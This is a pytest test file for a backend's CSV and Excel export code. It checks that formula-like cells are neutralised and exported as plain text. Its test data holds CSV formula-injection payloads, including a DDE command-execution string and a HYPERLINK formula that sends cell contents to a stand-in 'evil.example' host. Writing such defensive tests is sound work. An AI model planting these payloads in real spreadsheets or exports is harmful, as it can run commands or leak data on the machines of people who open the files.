"""Tables that leave the house: no cell computes, nothing is changed, and memory stays flat."""

import csv
import io
from collections.abc import AsyncIterator, Iterable, Sequence
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pytest

from backend.foundation.documents import workshop as workshop_module
from backend.foundation.documents.tables import Column, Link, csv_lines, looks_like_formula, wired
from backend.foundation.documents.workshop import Workshop
from backend.foundation.kernel import limits
from backend.foundation.kernel.problem import Problem
from tests.kit.clock import MORNING

WORKSHOP = Workshop()
ORIGIN = "https://bank.example"
COLUMNS = (
    Column("姓名", "Name", width=20),
    Column("日期", "Date", "date"),
    Column("人数", "People", "integer"),
    Column("得分", "Score", "number"),
    Column("时间", "At", "moment"),
    Column("整改", "Case", "link", opens="/findings"),
)
ROW = ("王芳", date(2027, 2, 20), 12, 9.5, MORNING, Link("0192-a", "F-17"))

# What spreadsheets have been made to compute, or to read as something else.
DANGEROUS = (
    "=1+1",
    "+8613800138000",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹣1",
    " =1+1",
    "\u200b=1+1",
    "\u3000=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/"&A1,"看")',
    "-",
)
HARMLESS = ("王芳", "a=b", "1-2", "50%", "'=1", '"=1"', "", "F-17", "·=", "　")


async def book(
    rows: Iterable[Sequence[Any]] | AsyncIterator[Sequence[Any]],
    columns: Sequence[Column] = COLUMNS,
    **how: Any,
) -> bytes:
    chosen: dict[str, Any] = {"title": "名单", "tongue": "zh", "made_at": MORNING} | how
    pieces = await WORKSHOP.xlsx(columns, rows, origin=ORIGIN, **chosen)
    return b"".join([piece async for piece in pieces])


def tab(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


def lines(rows: Iterable[Sequence[Any]], columns: Sequence[Column] = COLUMNS) -> list[list[str]]:
    data = b"".join(csv_lines(columns, rows, tongue="zh", origin=ORIGIN))
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_could_compute_is_known(text: str):
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_an_ordinary_text_is_left_alone(text: str):
    assert not looks_like_formula(text)
    assert lines([(text,)], (Column("姓名", "Name"),))[1:] == [[text]]


@pytest.mark.parametrize("text", DANGEROUS)
def test_in_csv_a_dangerous_text_has_a_tab_before_it_inside_the_quotes(text: str):
    data = b"".join(csv_lines((Column("姓名", "Name"),), [(text,)], tongue="zh"))
    line = data.decode("utf-8-sig").split("\r\n", 1)[1]
    assert line.startswith('"\t')
    assert lines([(text,)], (Column("姓名", "Name"),))[1] == [f"\t{text}"]


@pytest.mark.parametrize("text", ["0012", "13800138000123", "1234567890123456789"])
def test_in_csv_a_number_that_is_a_text_keeps_its_digits(text: str):
    assert lines([(text,)], (Column("编号", "Code"),))[1] == [f"\t{text}"]


def test_in_csv_a_separator_inside_a_text_makes_no_new_cell():
    """Cut at the comma, the second half would begin with a sign of its own."""
    (row,) = lines([('a,=1+1";=2+2\r\n=3',)], (Column("姓名", "Name"),))[1:]
    assert row == ['a,=1+1";=2+2\r\n=3']


def test_csv_has_numbers_bare_days_as_days_and_links_in_two_columns():
    heading, row, empty = lines([ROW, (None,) * 6])
    assert heading == ["姓名", "日期", "人数", "得分", "时间", "整改", "整改（链接）"]
    assert row[:5] == ["王芳", "2027-02-20", "12", "9.5", "2026-11-24 09:00:00"]
    assert row[5:] == ["F-17", "https://bank.example/findings/0192-a"]
    assert empty == [""] * 7
    raw = b"".join(csv_lines(COLUMNS, [(None, None, -5, -0.5, None, None)], tongue="en"))
    assert b",-5,-0.5," in raw


async def test_csv_comes_in_portions_of_whole_lines():
    pieces = list(
        csv_lines((Column("号", "No", "integer"),), ((n,) for n in range(450)), tongue="en")
    )
    assert len(pieces) == 4
    assert all(piece.endswith(b"\r\n") for piece in pieces)
    assert len(b"".join(pieces).splitlines()) == 451


@pytest.mark.parametrize("text", DANGEROUS)
async def test_in_a_workbook_a_dangerous_text_is_that_text(text: str):
    cell = tab(await book([(text,)], (Column("姓名", "Name"),)))["A2"]
    assert cell.data_type == "s"
    # XML reads a lone carriage return as a line break; nothing else may change.
    assert cell.value.replace("_x000D_", "\r").replace("\r", "\n") == text.replace("\r", "\n")
    assert cell.quotePrefix, "editing the cell would make it a formula"


async def test_in_a_workbook_cells_are_what_they_are():
    found = tab(await book([ROW]))
    assert [cell.value for cell in found[1]] == ["姓名", "日期", "人数", "得分", "时间", "整改"]
    name, day, people, score, at, case = found[2]
    assert (name.value, name.quotePrefix) == ("王芳", False)
    assert (day.value, day.number_format) == (datetime(2027, 2, 20), "yyyy-mm-dd")
    assert (people.value, score.value) == (12, 9.5)
    assert at.value == datetime(2026, 11, 24, 9, 0)
    assert (case.value, case.hyperlink.target) == ("F-17", "https://bank.example/findings/0192-a")
    assert found.freeze_panes == "A2"


async def test_in_a_workbook_a_text_that_looks_like_an_address_is_no_link():
    texts = ("https://evil.example/", "mailto:a@evil.example", "internal:Sheet1!A1", "007")
    for text in texts:
        cell = tab(await book([(text,)], (Column("姓名", "Name"),)))["A2"]
        assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)


async def test_headings_follow_the_tongue():
    assert tab(await book([ROW], tongue="en"))["A1"].value == "Name"
    data = b"".join(csv_lines(COLUMNS, [], tongue="en"))
    assert data.decode("utf-8-sig").startswith('"Name","Date"')


@pytest.mark.parametrize(
    ("title", "name"),
    [("a/b:c[d]*?\\", "a b c d"), ("'", "Sheet1"), ("History", "Sheet1"), ("长" * 40, "长" * 31)],
)
async def test_any_title_gives_a_tab(title: str, name: str):
    assert tab(await book([ROW], title=title)).title == name


async def test_a_very_long_text_is_cut_with_a_sign_and_not_left_out():
    """The library would leave the cell empty without a word."""
    value = tab(await book([("长" * 40_000,)], (Column("说明", "Note"),)))["A2"].value
    assert len(value) == limits.EXPORT_TEXT_MAX
    assert value.endswith("长…")


async def test_half_characters_and_control_characters_do_not_break_the_file():
    value = tab(await book([("a\ud800b\x07",)], (Column("姓名", "Name"),)))["A2"].value
    assert value.startswith("a?b")


async def test_the_same_table_has_the_same_bytes():
    assert await book([ROW]) == await book([ROW])


async def test_rows_may_come_one_by_one_from_a_database():
    async def coming() -> AsyncIterator[Sequence[Any]]:
        for number in range(501):
            yield (f"来客 {number}",)

    found = tab(await book(coming(), (Column("姓名", "Name"),)))
    assert found.max_row == 502
    assert found["A502"].value == "来客 500"


async def test_an_empty_table_is_its_headings():
    assert tab(await book([])).max_row == 1
    assert lines([]) == [["姓名", "日期", "人数", "得分", "时间", "整改", "整改（链接）"]]


async def test_more_rows_than_a_workbook_holds_are_refused(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(workshop_module.limits, "EXPORT_ROWS_MAX", 3)
    column = (Column("姓名", "Name"),)
    assert tab(await book([("a",)] * 3, column)).max_row == 4
    with pytest.raises(Problem) as refused:
        await book([("a",)] * 4, column)
    assert refused.value.code == "export_too_long"


async def test_a_source_that_breaks_half_way_gives_no_half_table():
    async def breaking() -> AsyncIterator[Sequence[Any]]:
        for number in range(300):
            yield (f"来客 {number}",)
        raise ConnectionError("the database went away")

    with pytest.raises(ConnectionError, match="went away"):
        await book(breaking(), (Column("姓名", "Name"),))


@pytest.mark.parametrize(
    ("kind", "cell"),
    [
        ("text", 12),
        ("integer", True),
        ("integer", 1.5),
        ("number", "12"),
        ("date", datetime(2027, 2, 20, tzinfo=UTC)),
        ("date", "20.02.2027"),
        ("moment", datetime(2027, 2, 20)),
        ("moment", "2027-02-20"),
        ("link", "https://evil.example/"),
    ],
)
def test_a_cell_of_another_kind_is_our_mistake_and_said_at_once(kind: Any, cell: Any):
    with pytest.raises((TypeError, ValueError)):
        wired((Column("列", "Column", kind, opens="/events"),), (cell,), ORIGIN)


def test_a_row_of_another_length_is_our_mistake():
    with pytest.raises(ValueError, match="1 cells for 6 columns"):
        wired(COLUMNS, ("王芳",), ORIGIN)
